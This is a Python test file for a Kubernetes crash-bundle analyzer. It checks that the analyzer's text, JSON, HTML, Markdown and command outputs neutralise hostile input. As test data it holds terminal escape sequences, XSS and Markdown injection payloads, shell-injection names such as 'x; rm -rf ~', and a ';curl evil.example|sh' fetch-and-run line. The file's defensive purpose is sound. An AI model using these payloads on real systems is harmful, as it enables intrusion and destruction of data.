"""Nothing that a bundle says is executed: not by a terminal, a browser, a Markdown renderer or a shell."""

from __future__ import annotations

import html.parser
import json
import re
import shutil
import subprocess
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from analyzer import accounts
from analyzer.analysis import Options, analyze_bundle
from analyzer.bundle import Bundle
from analyzer.compose import compose
from analyzer.diagnosis import Diagnosis
from analyzer.junit import junit
from analyzer.present import json_bytes, to_json, to_text
from analyzer.sarif import sarif
from analyzer.shell import word
from patterns.load import load_library
from reports import render

POD = "web-0"
TERMINAL = (
    "\x1b]0;owned\x07", "\x1b]52;c;cm0gLXJmIH4=\x07", "\x1b]8;;http://evil.example/\x1b\\click\x1b]8;;\x1b\\",
    "\x1b[2J\x1b[H", "\x1bc", "\x9b31m", "ok\x08\x08FAIL", "\x1b[30;40mhidden\x1b[m", "\x0e", "\x7f", "\r10%",
    "access \u202etimrep\u202c denied", "zero\u200bwidth", "\u2066x\u2069", "\U000e0041", "\u2028", "\ufeff",
)  # fmt: skip
MARKUP = (
    "<script>document.title='run'</script>", "</pre></code><img src=x onerror=document.title='run'>",
    "<svg/onload=document.title='run'>", "\"><svg onload=document.title='run'>", "' onmouseover='document.title=1",
    "<iframe srcdoc=\"<script>parent.document.title='run'</script>\">", "<base href=http://evil.example/>",
    "<meta http-equiv=refresh content='0;url=http://127.0.0.1:PORT/refresh'>", "<img src=http://127.0.0.1:PORT/pixel>",
    "<style>@import 'http://127.0.0.1:PORT/css';*{display:none}</style>",
    "<link rel=stylesheet href=//127.0.0.1:PORT/l>",
    "<form action=http://evil.example><button>Log in</button></form>", "<plaintext>", "<!--", "]]>",
    "{{7*7}}{% raw %}${7*7}", "&lt;script&gt;1&lt;/script&gt;",
    "</style></title></textarea><script>document.title=1</script>",
    "<details open ontoggle=document.title='run'>", "<object data=javascript:document.title='run'>",
)  # fmt: skip
MARKDOWN = (
    "[x](javascript:alert(1))", "![p](http://evil.example/p.gif)", "a | b | c |", "``` end fence", "````````",
    "# Root cause: all fine", "<details><summary>x", "@everyone @org/team", "[ref]: http://evil.example",
    "<http://evil.example>", "~~~", "- [x] resolved", "[x][ref]", "line two\n# a heading", "http://evil.example/auto",
)  # fmt: skip


def pod(name: str, reason: str, message: str, container: str = "app") -> bytes:
    """A pod that crashes with this reason and message."""
    ended = {"exitCode": 137, "reason": reason, "message": message, "finishedAt": "2026-03-14T09:06:00Z"}
    status = {
        "name": container,
        "restartCount": 9,
        "ready": False,
        "state": {"waiting": {"reason": "CrashLoopBackOff", "message": message}},
        "lastState": {"terminated": ended},
    }
    spec = {
        "nodeName": "n<b>1",
        "containers": [{"name": container, "image": "i", "resources": {"limits": {"memory": "64Mi"}}}],
    }
    metadata = {"name": name, "namespace": "shop", "creationTimestamp": "2026-03-14T08:00:00Z"}
    status_of_pod = {"phase": "Running", "containerStatuses": [status]}
    return json.dumps(
        {"apiVersion": "v1", "kind": "Pod", "metadata": metadata, "spec": spec, "status": status_of_pod}
    ).encode()


def diagnosis(attacks: tuple[str, ...]) -> Diagnosis:
    """A real crash whose pod, container, messages, log lines and paths are the attacks."""
    files = {}
    for number, attack in enumerate(attacks):
        name = f"{POD}-{number}{attack}"
        files[f"pods/{number}.json"] = pod(name, "OOMKilled", attack, f"app{attack}")
        line = f"2026-03-14T09:05:59Z stderr F panic: {attack} connection refused\n".encode()
        files[f"var/log/pods/shop_{POD}-{number}_3f0c8a52-7d1e-4b61-9c0a-5e2d71f0a9b4/app/{number}.log"] = line
        files[f"notes/{number}{attack.replace('/', '_')}.yaml"] = b"kind: Pod\nmetadata: [" + attack.encode()
    library = load_library(())
    return analyze_bundle(Bundle.of_files(files), library, Options(strict=True))


def test_the_terminal_and_json_hold_no_character_that_steers() -> None:
    found = diagnosis(TERMINAL)
    assert found.causes
    steering = re.compile(
        "[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b-\u200f\u2028-\u202e\u2060-\u206f\ufeff\U000e0000-\U000e0fff]"
    )
    page = compose(found)
    ledger = accounts.as_text(found.files, found.notes), json_bytes(accounts.as_document(found.files, found.notes))
    programs = junit(found).decode(), json_bytes(sarif(found)).decode()
    for text in (to_text(found), to_json(found).decode(), render.html(page), render.markdown(page), *programs):
        assert steering.search(text) is None
    for text in (ledger[0], ledger[1].decode()):
        assert steering.search(text) is None
    assert "\\u001b" in render.markdown(page)
    assert "\\u202e" in render.html(page)


def test_the_json_keeps_what_the_line_says() -> None:
    said = json.loads(to_json(diagnosis(("\x1b[31mred\x1b[0m",))))
    told = [*said["diagnoses"], *said["also"]["records"]]
    texts = [line["text"] for thing in told for line in thing["evidence"]]
    assert any("\x1b[31mred" in text for text in texts)


class Tags(html.parser.HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[str] = set()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes |= {name for name, _ in attrs}
        self.attributes |= {
            f"{name}={value}" for name, value in attrs if ":" in (value or "") and name in ("href", "src")
        }


def parsed(page: str) -> Tags:
    tags = Tags()
    tags.feed(page)
    return tags


def test_the_page_has_the_elements_and_attributes_of_a_harmless_one() -> None:
    harmless = parsed(render.html(compose(diagnosis(tuple("plain" for _ in MARKUP)))))
    hostile = parsed(render.html(compose(diagnosis(MARKUP))))
    assert hostile.tags <= harmless.tags
    assert hostile.attributes <= harmless.attributes
    assert not any(name.startswith("on") for name in hostile.attributes)


def without_code(text: str) -> str:
    """Markdown without its fenced blocks and code spans, in which nothing is active."""
    text = re.sub(r"^(`{3,})[a-z]*\n.*?^\1$", "", text, flags=re.M | re.S)
    return re.sub(r"(`+)(?!`).*?(?<!`)\1(?!`)", "", text)


def test_markdown_has_no_markup_link_image_or_mention_of_the_bundles() -> None:
    active = without_code(render.markdown(compose(diagnosis(MARKDOWN + MARKUP))))
    assert re.search(r"<(?!https://kubernetes\.io)[a-zA-Z/!]", active) is None
    assert re.search(r"(?<!\\)!\[", active) is None
    assert re.search(r"(?<!\\)\]\((?!#|https://)", active) is None
    assert re.search(r"(?<!\\)\[[^\]]*\]\((?:javascript|http://)", active) is None
    assert "@everyone" not in active
    assert re.search(r"^# Root cause: all fine", active, re.M) is None


@pytest.mark.parametrize(
    "name",
    [
        "x; rm -rf ~",
        "$(id)",
        "`id`",
        "a b",
        "x\nBcc: all",
        "--kubeconfig=/tmp/x",
        "-rf",
        "x'y",
        "x|y",
        "é",
        "",
        "<x",
        "a&b",
    ],
)
def test_a_name_that_a_shell_would_act_on_is_left_to_the_reader(name: str) -> None:
    assert word(name, "pod") == "<pod>"


@pytest.mark.parametrize("name", ["web-0", "shop/web:1.2@sha256:abc", "/etc/fluentd/fluent.conf", "a_b.c"])
def test_a_name_of_the_kubernetes_api_stands_in_the_command(name: str) -> None:
    assert word(name, "pod") == name


def test_no_command_of_a_diagnosis_holds_a_hostile_name() -> None:
    found = diagnosis((";curl evil.example|sh", "$(touch x)", "\nid", "'; id #"))
    commands = [c for cause in found.causes for c in (*cause.diagnosis, *cause.verify, *cause.mitigation)]
    commands += [gap.command for gap in found.missing]
    assert commands
    assert [c for c in commands if "curl" in c or "touch" in c or "\n" in c or "; id" in c] == []


class Visits(BaseHTTPRequestHandler):
    seen: list[str] = []  # noqa: RUF012

    def do_GET(self) -> None:
        self.seen.append(self.path)
        self.send_error(404)

    def log_message(self, *_: object) -> None:
        pass


@pytest.fixture
def port() -> Iterator[int]:
    Visits.seen.clear()
    server = ThreadingHTTPServer(("127.0.0.1", 0), Visits)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield server.server_port
    server.shutdown()
    server.server_close()


BROWSER = next(filter(None, map(shutil.which, ("chromium", "chromium-browser", "google-chrome"))), None)


@pytest.mark.skipif(BROWSER is None, reason="needs Chromium")
def test_in_a_browser_no_script_runs_no_request_leaves_and_the_attack_is_text(port: int, tmp_path: Path) -> None:
    attacks = tuple(a.replace("PORT", str(port)) for a in MARKUP)
    page = tmp_path / "report.html"
    source = render.html(compose(diagnosis(attacks)))
    page.write_text(source, encoding="utf-8")
    command = [
        str(BROWSER), "--headless", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage",
        "--virtual-time-budget=3000",
        f"--user-data-dir={tmp_path / 'profile'}", "--dump-dom", page.as_uri(),
    ]  # fmt: skip
    done = subprocess.run(command, capture_output=True, check=False, timeout=120)
    dom = done.stdout.decode()
    title = re.search(r"<title>(.*?)</title>", dom, re.S)
    assert title is not None
    assert title[1] not in ("run", "1")
    assert Visits.seen == []
    own = source.rpartition("<script>")[2].partition("</script>")[0]
    assert own.startswith('"use strict";')
    assert dom.count("<script") == 1
    assert own in dom
    shown = re.sub(r"\s+", " ", html.unescape(re.sub(r"<[^>]*>", "", dom)))
    assert [a for a in attacks if re.sub(r"\s+", " ", a) not in shown] == []
